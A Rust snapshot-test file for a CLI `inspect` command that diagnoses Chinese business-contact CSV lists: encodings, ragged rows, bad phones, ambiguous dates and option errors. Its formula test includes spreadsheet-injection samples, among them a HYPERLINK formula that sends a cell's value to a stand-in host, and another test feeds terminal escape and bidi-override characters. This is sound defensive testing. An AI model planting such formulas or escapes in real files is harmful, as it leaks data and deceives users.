//! `inspect`: what is wrong with a list, before any store exists.

use crate::sandbox::Sandbox;

/// Runs `inspect` in a folder without a store, with the inputs that are named beside it.
fn inspect(args: &str) -> String {
    let kam = Sandbox::empty();
    for name in args.split_whitespace() {
        for folder in ["bad", "demo"] {
            let path = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures");
            if let Ok(bytes) = std::fs::read(format!("{path}/{folder}/{name}")) {
                kam.file(name, bytes);
            }
        }
    }
    kam.kam(&format!("inspect {args}"))
}

#[test]
fn a_list_is_explained_column_by_column() {
    insta::assert_snapshot!(inspect("yellow_pages.csv --source yellow-pages"), @r#"
    file:                   yellow_pages.csv
    source:                 yellow-pages
    encoding:               gb18030
    byte order mark:        no
    delimiter:              ,
    header line:            3
    rows:                   51
    rejected:               2
    warnings:               0
    encoding by:            characters
    frequent characters %:  92

    columns
    column  header    field     filled  sample
    ────────────────────────────────────────────────────────────────────────────────────────────────────────────
         1  序号      extra         51  1, 2, 3
         2  公司名称  name          50  杭州多达矿业工程有限公司, 杭州岚柏物流有限公司, 杭州榆舟冷链运输有限公司
         3  行业      industry      51  矿业工程, 物流运输, 建筑工程
         4  联系人    contact       45  张志强经理, 沈一舟, 何雨桐女士
         5  电话      phone         50  0571-55501001, 0571-55501002/55501003, 0571-55501004转801
         6  手机      phone         40  138 0013 8001, 13800138002, １３８００１３８００５
         7  地址      address       51  杭州市余杭区砾石路88号, 杭州市萧山区驼铃路12号, 杭州市临平区霜桥街5号
         8  城市      city          51  杭州, 宁波, 绍兴
         9  网址      web site       6  www.lanbai.example, www.chengli.example, www.yanhe.example
        10  备注      note           9  自有矿山道路，车辆常年跑砂石路, 下设项目部多个, 旺季缺车

    problems
    code            rejected  count  line  column
    ─────────────────────────────────────────────
    nothing-usable  yes           1    46
    ragged          yes           1    47      13
    ---- stderr ----
    yellow_pages.csv:46: no name and no phone, e-mail or credit code [nothing-usable]; rejected: fill in a name, or a phone, e-mail or credit code
    yellow_pages.csv:47:13: 13 cells, the list has 10 columns; beyond them "联系人每周三休息" [ragged]; rejected: put what was split into several cells back into one
    yellow_pages.csv: read as gb18030: 92 % of its characters are frequent in lists; it is not big5.
    yellow_pages.csv: 49 of 51 rows can be used.
    Lines above the header are left out: 2.
    Columns that are no field are kept as extra: 序号.
    "#);
}

#[test]
fn a_list_is_explained_in_chinese() {
    insta::assert_snapshot!(inspect("association_members.csv --source 协会 --lang zh-CN"), @r"
    文件:      association_members.csv
    数据来源:  协会
    编码:      utf-8
    BOM 标记:  是
    分隔符:    ,
    表头行:    1
    行数:      44
    拒收:      0
    警告:      0
    编码依据:  BOM 标记

    各列
    列  表头               字段      日期顺序  有值  示例
    ───────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────
     1  Member No          来源编号              44  HZ-0001, HZ-0002, HZ-0003
     2  Company            名称                  44  杭州多达矿业工程有限公司, 岚柏物流（杭州）有限公司, 澄犁建设集团
     3  Title              职务                  37  采购经理, 总经理, 董事长
     4  Contact            联系人                39  张志强, 沈一舟, 万里程
     5  Phone              电话                  43  13800138001, 0571-5550 1002, 0574-55502001
     6  E-mail             邮箱                  14  zhang.zhiqiang@duoda.example, shen@lanbai.example, guyan@yanhe.example
     7  City               城市                  44  杭州, 宁波, 温州
     8  Address            地址                  44  杭州市余杭区砾石路88号, 萧山区驼铃路12号, 宁波鄞州区耕云路200号
     9  Industry           行业                  44  矿业工程, 物流, 建筑
    10  Joined             其他栏目              44  2024年3月8日, 3/8/97, 12/25/96
    11  Interested Model   车型                  29  拓川 2.0L, 远岚 厢式, 沐野 7座
    12  Quantity           数量                  29  5, 3台, 8
    13  Budget             预算                  29  125万, 90万, 200万
    14  Expected Purchase  预计购买  月日年      27  2026-03-16, 3/20/26, 4/12/26
    15  Grade              级别                  23  A, B, H
    16  Note               备注                  16  五台，每台约25万；路况差、多尘、高温；名单上只剩我们和另一家, 集团采购，须招标, 要赶清明前交车
    ---- stderr ----
    association_members.csv：44 行中 44 行可用。
    未对应字段的列原样保留：Joined。
    ");
}

#[test]
fn programs_get_one_object_per_file() {
    insta::assert_snapshot!(inspect("ragged.csv only_header.csv -f json -q"), @r#"
    [
    {"file":"ragged.csv","source":"business-directory","encoding":"utf-8","byte_order_mark":false,"delimiter":",","header_line":1,"rows":5,"rejected":1,"warnings":0,"columns":[{"column":1,"header":"公司名称","field":"name","date_order":null,"filled":5,"sample":["杭州砾川建材有限公司","宁波驿帆贸易有限公司","绍兴稻屿酒业有限公司"]},{"column":2,"header":"联系人","field":"contact","date_order":null,"filled":5,"sample":["石川","唐帆","陶屿"]},{"column":3,"header":"电话","field":"phone","date_order":null,"filled":4,"sample":["0571-55501301","0575-55503303","13800138304"]},{"column":4,"header":"城市","field":"city","date_order":null,"filled":4,"sample":["杭州","绍兴","嘉兴"]}],"problems":[{"code":"ragged","rejected":true,"count":1,"line":4,"column":5}],"sheet":null,"skipped":null,"encoding_by":"validity","encoding_share":null},
    {"file":"only_header.csv","source":"business-directory","encoding":"utf-8","byte_order_mark":false,"delimiter":",","header_line":1,"rows":0,"rejected":0,"warnings":0,"columns":[{"column":1,"header":"公司名称","field":"name","date_order":null,"filled":0,"sample":[]},{"column":2,"header":"联系人","field":"contact","date_order":null,"filled":0,"sample":[]},{"column":3,"header":"电话","field":"phone","date_order":null,"filled":0,"sample":[]},{"column":4,"header":"城市","field":"city","date_order":null,"filled":0,"sample":[]}],"problems":[],"sheet":null,"skipped":null,"encoding_by":"validity","encoding_share":null}
    ]
    ---- stderr ----
    ragged.csv:4:5: 6 cells, the list has 4 columns; beyond them "柯桥区" [ragged]; rejected: put what was split into several cells back into one
    "#);
}

#[test]
fn purchases_are_noticed_and_read_as_such_when_asked_for() {
    insta::assert_snapshot!(inspect("parts_invoices.csv --columns source,columns"), @r"
    source:  business-directory

    columns
    column  header    field         filled  sample
    ──────────────────────────────────────────────────────────────────────────────────────────────────────────────────
         1  发票号    extra             52  PJ2601001, PJ2601002, PJ2601003
         2  日期      collected on      52  2026-01-06, 2026-01-07, 2026-01-08
         3  客户名称  name              52  杭州多达矿业工程有限公司, 杭州岚柏物流有限公司, 杭州蓝桥驿汽车租赁有限公司
         4  电话      phone             52  13800138001, 0571-55501002, 0571-55501022
         5  配件名称  extra             52  空气滤清器, 机油 5W-30 4L, 刹车片(前)
         6  数量      quantity          52  12, 8, 16
         7  金额      extra             52  1,280.00, ￥3,500, 2,640.00
    ---- stderr ----
    parts_invoices.csv: 52 of 52 rows can be used.
    Columns that are no field are kept as extra: 发票号, 配件名称, 金额.
    Next: rows look like purchases; `--source` with one of parts-invoices, service-records, body-shop reads them as such.
    ");
    insta::assert_snapshot!(inspect("parts_invoices.csv --source parts-invoices:配件部 --columns source,columns"), @r"
    source:  parts-invoices

    columns
    column  header    field     filled  sample
    ──────────────────────────────────────────────────────────────────────────────────────────────────────────────
         1  发票号    number        52  PJ2601001, PJ2601002, PJ2601003
         2  日期      day           52  2026-01-06, 2026-01-07, 2026-01-08
         3  客户名称  name          52  杭州多达矿业工程有限公司, 杭州岚柏物流有限公司, 杭州蓝桥驿汽车租赁有限公司
         4  电话      phone         52  13800138001, 0571-55501002, 0571-55501022
         5  配件名称  item          52  空气滤清器, 机油 5W-30 4L, 刹车片(前)
         6  数量      quantity      52  12, 8, 16
         7  金额      amount        52  1,280.00, ￥3,500, 2,640.00
    ---- stderr ----
    parts_invoices.csv: 52 of 52 rows can be used.
    ");
}

#[test]
fn no_name_column() {
    insta::assert_snapshot!(inspect("no_name_column.csv"), @"
    ---- stderr ----
    error: cannot import `no_name_column.csv`: no column for `name` or `phone`
    hint: headers in line 1: 编号, 备用一, 备用二
    hint: none of them looks like it: name the column with `--map HEADER=name`
    ---- exit 3 ----
    ");
    insta::assert_snapshot!(inspect("no_name_column.csv --lang zh"), @"
    ---- stderr ----
    错误：无法导入 `no_name_column.csv`：没有 `name` 或 `phone` 列
    提示：第 1 行表头：编号, 备用一, 备用二
    提示：没有相近的表头：用 `--map 表头=name` 指定该列
    ---- exit 3 ----
    ");
    insta::assert_snapshot!(inspect("no_name_column.csv --map 备用一=名称 --key 编号 --columns rows,columns"), @r"
    rows:  3

    columns
    column  header  field        filled  sample
    ───────────────────────────────────────────────────────────────────────
         1  编号    external id       3  1, 2, 3
         2  备用一  name              3  甲, 乙, 丙
         3  备用二  extra             3  2026-01-05, 2026-01-06, 2026-01-07
    ---- stderr ----
    no_name_column.csv: 3 of 3 rows can be used.
    Columns that are no field are kept as extra: 备用二.
    ");
}

#[test]
fn options_that_do_not_fit_the_columns() {
    insta::assert_snapshot!(inspect("ragged.csv --map 公司名=name"), @r"
    ---- stderr ----
    error: cannot import `ragged.csv`: no column `公司名`; did you mean `公司名称`?
    hint: columns: 公司名称, 联系人, 电话, 城市
    ---- exit 3 ----
    ");
    insta::assert_snapshot!(inspect("ragged.csv --map 城市=town"), @"
    ---- stderr ----
    error: no field `town`
    hint: fields: external_id, name, kind, credit_code, phone, email, website, contact, title, department, address, province, city, district, industry, territory, size, channel, tags, note, collected_on, model, colour, quantity, budget, expected_on, grade, number, day, item, amount, account_id, deal_id, agenda_day, touch_kind, result, next_on, consultant, plate, vin, first_plate_on, km, insured_to, maker, ownership, price, deposit, payment, promised_on, reason, extra
    ---- exit 2 ----
    ");
    insta::assert_snapshot!(inspect("ragged.csv --map 城市=amount"), @r"
    ---- stderr ----
    error: a row of `business-directory` is no purchase: it has no `amount`
    hint: kinds whose rows are purchases: parts-invoices, service-records, body-shop
    ---- exit 2 ----
    ");
    insta::assert_snapshot!(inspect("ragged.csv --encoding latin0 --map 城市 --delimiter 一 --date-order us"), @r"
    ---- stderr ----
    error: `--map 城市` is not COLUMN=FIELD; one looks like `--map 公司=name`
    error: `latin0` is no encoding that lists are read in; did you mean `latin1`?
    error: `一` is no delimiter: a sign such as , ; | or the word tab
    error: `us` is no order of dates; one of ymd, mdy, dmy
    ---- exit 2 ----
    ");
    let said = inspect("ragged.csv --source 电话簿 --lang zh");
    assert!(said.contains("错误：`电话簿` 不是来源类型；可用：配件发票、配件供货商"), "{said}");
    assert!(said.contains("exit 2"), "{said}");
    insta::assert_snapshot!(inspect("ragged.csv --header-line 99"), @r"
    ---- stderr ----
    error: cannot import `ragged.csv`: line 99 is no header: it is blank, inside a cell or past the first rows
    hint: look at its first lines; `--header-line 0` says that there is no header
    ---- exit 3 ----
    ");
}

#[test]
fn bad_phones() {
    insta::assert_snapshot!(inspect("bad_phones.csv --columns rows,rejected,warnings,problems"), @r##"
    rows:      12
    rejected:  0
    warnings:  9

    problems
    code                   rejected  count  line  column
    ────────────────────────────────────────────────────
    phone-length           no            3     2       2
    scientific             no            1     4       2
    phone-plan             no            1     5       2
    phone-landline-length  no            1     6       2
    phone-letters          no            2     8       2
    sheet-error            no            1    10       2
    ---- stderr ----
    bad_phones.csv:2:2: phone "138…(10)": 10 digits, a mobile number has 11 [phone-length]; kept as text
    bad_phones.csv:3:2: phone "138…(12)": 12 digits, a mobile number has 11 [phone-length]; kept as text
    bad_phones.csv:12:2: phone "138…(19)": 7 digits, a mobile number has 11 [phone-length]; kept as text
    bad_phones.csv:4:2: phone "1.3…(11)": the spreadsheet rounded the digits away [scientific]; kept as text
    bad_phones.csv:5:2: phone "123…(11)": no number of China begins so [phone-plan]; kept as text
    bad_phones.csv:6:2: phone "057…(9)": 8 digits, a landline with its area code has 10 to 12 [phone-landline-length]; kept as text
    bad_phones.csv:8:2: phone "打…(3)": `打不通` is no part of a telephone number [phone-letters]; kept as text
    bad_phones.csv:9:2: phone "138…(11)": `oo` is no part of a telephone number [phone-letters]; kept as text
    bad_phones.csv:10:2: phone "#N…(4)": the spreadsheet left an error, #N/A [sheet-error]; kept as text
    bad_phones.csv: 12 of 12 rows can be used.
    "##);
    insta::assert_snapshot!(inspect("bad_phones.csv --columns rows --lang zh --show-values"), @r##"
    行数:  12
    ---- stderr ----
    bad_phones.csv:2:2: 电话 "1380013800"：10 位，手机号应为 11 位 [phone-length]；原文保留
    bad_phones.csv:3:2: 电话 "138001380000"：12 位，手机号应为 11 位 [phone-length]；原文保留
    bad_phones.csv:12:2: 电话 "13800138011/1380013"：7 位，手机号应为 11 位 [phone-length]；原文保留
    bad_phones.csv:4:2: 电话 "1.38001E+10"：被表格按科学计数法舍去了数字 [scientific]；原文保留
    bad_phones.csv:5:2: 电话 "12345678901"：没有这样开头的号码 [phone-plan]；原文保留
    bad_phones.csv:6:2: 电话 "0571-5550"：8 位，固定电话带区号应为 10 至 12 位 [phone-landline-length]；原文保留
    bad_phones.csv:8:2: 电话 "打不通"：`打不通` 不是电话号码的内容 [phone-letters]；原文保留
    bad_phones.csv:9:2: 电话 "138OO138O08"：`oo` 不是电话号码的内容 [phone-letters]；原文保留
    bad_phones.csv:10:2: 电话 "#N/A"：表格中的错误值 #N/A [sheet-error]；原文保留
    bad_phones.csv：12 行中 12 行可用。
    "##);
}

#[test]
fn ambiguous_dates() {
    insta::assert_snapshot!(inspect("ambiguous_dates.csv --columns rows,problems"), @r#"
    rows:  4

    problems
    code        rejected  count  line  column
    ─────────────────────────────────────────
    date-order  no            3     2       3
    ---- stderr ----
    ambiguous_dates.csv:2:3: expected_on "3/4/26": may be 2026-03-04 or 2026-04-03; say which comes first, day, month or year [date-order]; kept as text
    ambiguous_dates.csv:3:3: expected_on "05/06/26": may be 2005-06-26 or 2026-05-06 or 2026-06-05; say which comes first, day, month or year [date-order]; kept as text
    ambiguous_dates.csv:4:3: expected_on "11/12/26": may be 2011-12-26 or 2026-11-12 or 2026-12-11; say which comes first, day, month or year [date-order]; kept as text
    ambiguous_dates.csv: 4 of 4 rows can be used.
    Next: say which comes first in dates, as in `--date-order mdy`, or they are kept as text.
    "#);
    insta::assert_snapshot!(inspect("ambiguous_dates.csv --date-order mdy --columns rows,columns"), @r"
    rows:  4

    columns
    column  header        field     dates  filled  sample
    ───────────────────────────────────────────────────────────────────────────────────────────────────────────────
         1  公司名称      name                  4  杭州砾川建材有限公司, 宁波驿帆贸易有限公司, 绍兴稻屿酒业有限公司
         2  电话          phone                 4  0571-55501301, 13800138302, 0575-55503303
         3  预计购买日期  expected  mdy         4  3/4/26, 05/06/26, 11/12/26
    ---- stderr ----
    ambiguous_dates.csv: 4 of 4 rows can be used.
    ");
}

#[test]
fn ragged() {
    insta::assert_snapshot!(inspect("ragged.csv --columns rows,rejected,problems"), @r#"
    rows:      5
    rejected:  1

    problems
    code    rejected  count  line  column
    ─────────────────────────────────────
    ragged  yes           1     4       5
    ---- stderr ----
    ragged.csv:4:5: 6 cells, the list has 4 columns; beyond them "柯桥区" [ragged]; rejected: put what was split into several cells back into one
    ragged.csv: 4 of 5 rows can be used.
    "#);
}

#[test]
fn only_header() {
    insta::assert_snapshot!(inspect("only_header.csv --columns rows,rejected"), @r"
    rows:      0
    rejected:  0
    ---- stderr ----
    There is no row below the header.
    ");
}

#[test]
fn stray_quote() {
    insta::assert_snapshot!(inspect("stray_quote.csv --columns rows,rejected"), @r"
    rows:      5
    rejected:  0
    ---- stderr ----
    stray_quote.csv: 5 of 5 rows can be used.
    ");
}

#[test]
fn formula() {
    insta::assert_snapshot!(inspect("formula.csv --columns rows,warnings,columns"), @r#"
    rows:      5
    warnings:  0

    columns
    column  header    field    filled  sample
    ─────────────────────────────────────────────────────────────────────────────────────────────────
         1  公司名称  name          5  =1+1, 杭州驿帆贸易有限公司, 绍兴稻屿酒业有限公司
         2  联系人    contact       5  石川, =HYPERLINK("http://example.invalid/?"&A2,"点这里"), 陶屿
         3  电话      phone         5  0571-55501301, 13800138302, +8657555503303
         4  备注      note          5  名称是公式, 联系人是公式, @SUM(A1:A9)
    ---- stderr ----
    formula.csv: 5 of 5 rows can be used.
    "#);
}

#[test]
fn control_characters() {
    let said = inspect("control_characters.csv");
    assert!(said.contains(r"杭州\u{1b}[31m砾川\u{1b}[0m建材有限公司"), "{said}");
    assert!(!said.contains(['\u{1b}', '\u{7}', '\u{202e}', '\u{202a}']), "{said}");
    assert!(said.contains("5 of 5 rows can be used"), "{said}");
}

#[test]
fn never_closed() {
    insta::assert_snapshot!(inspect("never_closed.csv"), @r#"
    ---- stderr ----
    error: never_closed.csv:3:1: a quoted cell goes on for more than 20 lines: a stray quote swallows rows
    hint: close the quote or take it out; a quote within a quoted cell is written twice ("")
    ---- exit 3 ----
    "#);
    insta::assert_snapshot!(inspect("never_closed.csv --lang zh"), @r#"
    ---- stderr ----
    错误：never_closed.csv:3:1: 引号内的单元格超过 20 行：多余的引号吞掉了后面的行
    提示：补上或去掉引号；引号内的引号要写两个（""）
    ---- exit 3 ----
    "#);
}

#[test]
fn nul() {
    insta::assert_snapshot!(inspect("nul.csv"), @r"
    ---- stderr ----
    error: nul.csv:3:1: a NUL character
    hint: the file was damaged on its way here: take it from its source again
    ---- exit 3 ----
    ");
}

#[test]
fn empty() {
    insta::assert_snapshot!(inspect("empty.csv"), @r"
    ---- stderr ----
    error: cannot import `empty.csv`: there is nothing in it
    hint: export the list again; it needs a header and rows
    ---- exit 3 ----
    ");
}

#[test]
fn mixed_encoding() {
    insta::assert_snapshot!(inspect("mixed_encoding.csv"), @r"
    ---- stderr ----
    error: cannot import `mixed_encoding.csv`: it is in several encodings
    mixed_encoding.csv:4: gb18030, and other lines are utf-8
    hint: save the part from each source as CSV UTF-8 before they are joined
    ---- exit 3 ----
    ");
    insta::assert_snapshot!(inspect("mixed_encoding.csv --encoding gb18030"), @r"
    ---- stderr ----
    error: mixed_encoding.csv:1: not gb18030 but utf-8
    hint: name another with `--encoding`, or save the list as CSV UTF-8
    ---- exit 3 ----
    ");
    insta::assert_snapshot!(inspect("mixed_encoding.csv --encoding utf-8 --lang zh"), @r"
    ---- stderr ----
    错误：mixed_encoding.csv:4: 不是 utf-8 编码（字节 C9）
    提示：用 `--encoding` 指定其他编码，或另存为“CSV UTF-8”
    ---- exit 3 ----
    ");
}

#[test]
fn big5() {
    insta::assert_snapshot!(inspect("big5.csv --columns encoding,encoding_by,encoding_share,rows --lang zh"), @r#"
    编码:      big5
    编码依据:  常用字
    常用字 %:  92
    行数:      4
    ---- stderr ----
    big5.csv:2:3: 电话 "02-…(12)"：没有这样开头的号码 [phone-plan]；原文保留
    big5.csv:3:3: 电话 "04-…(12)"：没有这样开头的号码 [phone-plan]；原文保留
    big5.csv:4:3: 电话 "07-…(11)"：9 位，固定电话带区号应为 10 至 12 位 [phone-landline-length]；原文保留
    big5.csv:5:3: 电话 "03-…(11)"：9 位，固定电话带区号应为 10 至 12 位 [phone-landline-length]；原文保留
    big5.csv：按 big5 读取：92% 的汉字是名单常用字；按 gb18030 为 7%。
    big5.csv：4 行中 4 行可用。
    "#);
    let said = inspect("big5.csv --encoding gb18030");
    assert!(said.contains("no column for `name` or `phone`"), "{said}");
}

#[test]
fn utf16le() {
    insta::assert_snapshot!(inspect("utf16le.csv --columns encoding,byte_order_mark,encoding_by,delimiter,rows"), @r"
    encoding:         utf-16le
    byte order mark:  yes
    encoding by:      mark
    delimiter:        tab
    rows:             5
    ---- stderr ----
    utf16le.csv: 5 of 5 rows can be used.
    ");
    insta::assert_snapshot!(inspect("utf16le.csv --encoding gbk"), @r"
    ---- stderr ----
    error: cannot import `utf16le.csv`: it is not gb18030: its byte order mark says utf-16le
    hint: leave `--encoding` out
    ---- exit 3 ----
    ");
}

#[test]
fn an_encoding_that_is_not_sure_is_chosen_by_the_user() {
    let kam = Sandbox::empty();
    let name = encoding_rs::GB18030.encode("Name,Phone\n高烦,13800138000\n").0.into_owned();
    kam.file("short.csv", name);
    let western = "Firm,City\nMüller Söhne,Köln\nCafé Frères,Orléans\n";
    kam.file("western.csv", encoding_rs::WINDOWS_1252.encode(western).0);
    insta::assert_snapshot!(kam.kam("inspect short.csv"), @r"
    ---- stderr ----
    error: cannot import `short.csv`: its encoding is unclear
    short.csv:2: not utf-8 (bytes B8)
    hint: add the one of these under which line 2 can be read
    hint: `--encoding big5`: 詢歲,138****8000
    hint: `--encoding gb18030`: 高烦,138****8000
    hint: otherwise name another, or save the list as CSV UTF-8
    ---- exit 3 ----
    ");
    insta::assert_snapshot!(kam.kam("inspect short.csv --lang zh"), @r"
    ---- stderr ----
    错误：无法导入 `short.csv`：无法确定编码
    short.csv:2: 不是 utf-8 编码（字节 B8）
    提示：第 2 行在哪种编码下可读，就加哪一个：
    提示：`--encoding big5`：詢歲,138****8000
    提示：`--encoding gb18030`：高烦,138****8000
    提示：否则请指定其他编码，或另存为“CSV UTF-8”
    ---- exit 3 ----
    ");
    insta::assert_snapshot!(kam.kam("inspect western.csv --map Firm=name"), @r"
    ---- stderr ----
    error: cannot import `western.csv`: its encoding is unclear
    western.csv:2: not utf-8 (bytes FC)
    hint: if line 2 can be read like this, add
    hint: `--encoding windows-1252`: Müller Söhne,Köln
    hint: otherwise name another, or save the list as CSV UTF-8
    ---- exit 3 ----
    ");
    insta::assert_snapshot!(kam.kam("inspect western.csv --map Firm=name --encoding latin1 --columns encoding,encoding_by,columns"), @r"
    encoding:     windows-1252
    encoding by:  option

    columns
    column  header  field  filled  sample
    ────────────────────────────────────────────────────────
         1  Firm    name        2  Müller Söhne, Café Frères
         2  City    city        2  Köln, Orléans
    ---- stderr ----
    western.csv: 2 of 2 rows can be used.
    ");
}

#[test]
fn renamed_workbook() {
    insta::assert_snapshot!(inspect("renamed_workbook.csv --lang zh"), @r"
    文件:      renamed_workbook.csv
    数据来源:  工商名录
    表头行:    1
    行数:      2
    拒收:      0
    警告:      0
    工作表:    Sheet1

    各列
    列  表头      字段    有值  示例
    ──────────────────────────────────────────────────────────────────────
     1  公司名称  名称       2  杭州砾川建材有限公司, 宁波驿帆贸易有限公司
     2  联系人    联系人     2  石川, 唐帆
     3  电话      电话       2  0571-55501301, 13800138302
     4  城市      城市       2  杭州, 宁波
    ---- stderr ----
    renamed_workbook.csv:Sheet1：2 行中 2 行可用。
    ");
}

#[test]
fn every_file_that_is_refused_is_named_and_the_others_are_explained() {
    insta::assert_snapshot!(inspect("gone.csv stray_quote.csv nul.csv --columns file,rows"), @r"
    file:  stray_quote.csv
    rows:  5
    ---- stderr ----
    stray_quote.csv: 5 of 5 rows can be used.
    error: there is no file `gone.csv`
    hint: name a file, or `-` for standard input
    error: nul.csv:3:1: a NUL character
    hint: the file was damaged on its way here: take it from its source again
    ---- exit 3 ----
    ");
}

#[test]
fn a_long_row_of_problems_is_cut_unless_all_are_asked_for() {
    let kam = Sandbox::empty();
    let rows: Vec<String> = (0..7).map(|row| format!("砾川{row}号,138001\n")).collect();
    kam.file("list.csv", format!("公司,电话\n{}", rows.concat()));
    let few = kam.kam("inspect list.csv --columns rows");
    assert_eq!(few.matches("[phone-short]; kept as text").count(), 5, "{few}");
    assert!(few.contains("… and 2 more [phone-short]; `--all` prints every one"), "{few}");
    let all = kam.kam("inspect list.csv --columns rows --all");
    assert_eq!(all.matches("[phone-short]; kept as text").count(), 7, "{all}");
}

#[test]
fn standard_input_is_a_list_too() {
    let kam = Sandbox::empty();
    let list = "公司\t电话\n砾川\t138001\n";
    insta::assert_snapshot!(kam.kam_with(&["inspect", "-", "--columns", "file,delimiter,rows"], list), @r#"
    file:       -
    delimiter:  tab
    rows:       1
    ---- stderr ----
    -:2:2: phone "138…(6)": too few digits for a telephone number, 6 [phone-short]; kept as text
    -: 1 of 1 row can be used.
    "#);
}

#[test]
fn a_list_without_names_says_so_before_accounts_are_called_by_their_phones() {
    let kam = Sandbox::new();
    kam.file("odd.csv", "Who,Cell\n多达公司,13800138000\n");
    kam.file("usual.csv", "Cust.,POC,Tel.,Loc\nDuoda Ltd,Li,13800138000,Hangzhou\n");
    kam.file("客户.csv", "客户单位,联络人,联系方式,所在地区\n多达公司,张三,13800138000,宁波\n");
    insta::assert_snapshot!(kam.kam("inspect odd.csv --columns rows"), @r"
    rows:  1
    ---- stderr ----
    odd.csv: 1 of 1 row can be used.
    odd.csv: no column holds a name, accounts go by person or phone; `--map COLUMN=name` says which one does.
    Columns that are no field are kept as extra: Who.
    ");
    insta::assert_snapshot!(kam.kam("import odd.csv --source association --dry-run"), @r"
    batch  collected  added  merged  unchanged  held  rejected  file
    ───────────────────────────────────────────────────────────────────
    new            1      1       0          0     0         0  odd.csv
    ---- stderr ----
    odd.csv: no column holds a name, accounts go by person or phone; `--map COLUMN=name` says which one does.
    Dry run: nothing was written.
    ");
    insta::assert_snapshot!(kam.kam("inspect usual.csv 客户.csv --columns columns -q"), @r"
    columns
    column  header  field    filled  sample
    ────────────────────────────────────────────
         1  Cust.   name          1  Duoda Ltd
         2  POC     contact       1  Li
         3  Tel.    phone         1  13800138000
         4  Loc     city          1  Hangzhou

    columns
    column  header    field      filled  sample
    ────────────────────────────────────────────────
         1  客户单位  name            1  多达公司
         2  联络人    contact         1  张三
         3  联系方式  phone           1  13800138000
         4  所在地区  territory       1  宁波
    ");
}
